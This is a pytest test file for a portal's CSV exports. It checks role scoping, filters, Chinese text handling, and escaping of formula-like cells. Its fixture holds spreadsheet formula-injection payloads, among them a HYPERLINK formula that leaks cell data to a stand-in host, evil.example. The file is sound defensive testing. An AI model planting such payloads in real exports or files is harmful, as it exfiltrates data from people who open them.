"""CSV exports: scoped like the lists, filtered like them, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from portal.csvio import safe_cell
from portal.extensions import db
from portal.models import Role
from tests.conftest import client_for
from tests.support.clients import signed_in_client
from tests.support.factories import PASSWORD, make_dealer, make_region, make_store, make_user

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "contact_person": "+SUM(1,2)",
    "address": "-2+3",
    "city": "@cmd",
    "phone": "\t=1+1",
    "email": "\r=2+2@example.com",
}


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheet apps then read Chinese correctly
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.fixture
def admin(app):
    return signed_in_client(app, make_user(Role.ADMIN))


def test_cells_that_look_like_formulas_are_quoted(admin):
    make_dealer(code="EVIL", **HOSTILE)

    (row,) = rows_of(admin.get("/dealers/export.csv"))

    for field, value in HOSTILE.items():
        assert row[field] == "'" + value


def test_store_export_quotes_formulas_too(admin):
    make_store(code="S-EVIL", name="=1+1", address="@SUM(A1)", city="-3")

    (row,) = rows_of(admin.get("/stores/export.csv"))

    assert (row["name"], row["address"], row["city"]) == ("'=1+1", "'@SUM(A1)", "'-3")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (3.25, "3.25"),
        (Decimal("-1.20"), "-1.20"),
        (0, "0"),
        (date(2024, 5, 1), "2024-05-01"),
        (None, ""),
        ("-5", "'-5"),  # text that looks like a number is still text a spreadsheet would run
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("'=x", "''=x"),  # escaped, so an import can undo exactly one quote
    ],
)
def test_numbers_stay_numbers_and_text_is_defused(value, cell):
    assert safe_cell(value) == cell


def test_export_keeps_chinese_text_and_iso_dates(admin):
    make_dealer(code="CN1", name="北京恒泰商贸", city="北京", contract_start=date(2021, 3, 1))

    (row,) = rows_of(admin.get("/dealers/export.csv"))

    assert (row["name"], row["city"], row["contract_start"]) == (
        "北京恒泰商贸",
        "北京",
        "2021-03-01",
    )


def test_export_is_a_download(admin):
    response = admin.get("/dealers/export.csv")

    assert response.headers["Content-Disposition"] == 'attachment; filename="dealers.csv"'


def test_export_follows_the_list_filters_and_hides_deactivated(admin):
    region = make_region()
    make_dealer(region, code="KEEP", name="kept", status="active")
    make_dealer(region, code="SUSP", name="suspended one", status="suspended")
    make_dealer(region, code="GONE", name="gone", active=False)

    assert [r["code"] for r in rows_of(admin.get("/dealers/export.csv"))] == ["KEEP", "SUSP"]
    assert [r["code"] for r in rows_of(admin.get("/dealers/export.csv?status=active"))] == ["KEEP"]
    assert [r["code"] for r in rows_of(admin.get("/dealers/export.csv?q=susp"))] == ["SUSP"]
    everything = rows_of(admin.get("/dealers/export.csv?inactive=1"))
    assert {r["code"]: r["active"] for r in everything} == {
        "GONE": "no",
        "KEEP": "yes",
        "SUSP": "yes",
    }


def test_supervisor_and_dealer_exports_hold_only_their_scope(app):
    mine, theirs = make_region(), make_region()
    own = make_dealer(mine, code="OWN")
    make_store(own, code="OWN-01")
    other = make_dealer(theirs, code="OTHER")
    make_store(other, code="OTHER-01")
    supervisor = make_user(Role.SUPERVISOR, regions=[mine])
    dealer_user = make_user(Role.DEALER, dealer=own)
    db.session.commit()

    as_supervisor = client_for(app, supervisor.email, PASSWORD)
    as_dealer = client_for(app, dealer_user.email, PASSWORD)

    assert [r["code"] for r in rows_of(as_supervisor.get("/dealers/export.csv"))] == ["OWN"]
    assert [r["code"] for r in rows_of(as_supervisor.get("/stores/export.csv"))] == ["OWN-01"]
    assert [r["code"] for r in rows_of(as_dealer.get("/stores/export.csv"))] == ["OWN-01"]
    assert [
        r["code"] for r in rows_of(as_dealer.get(f"/stores/export.csv?dealer={other.id}"))
    ] == []
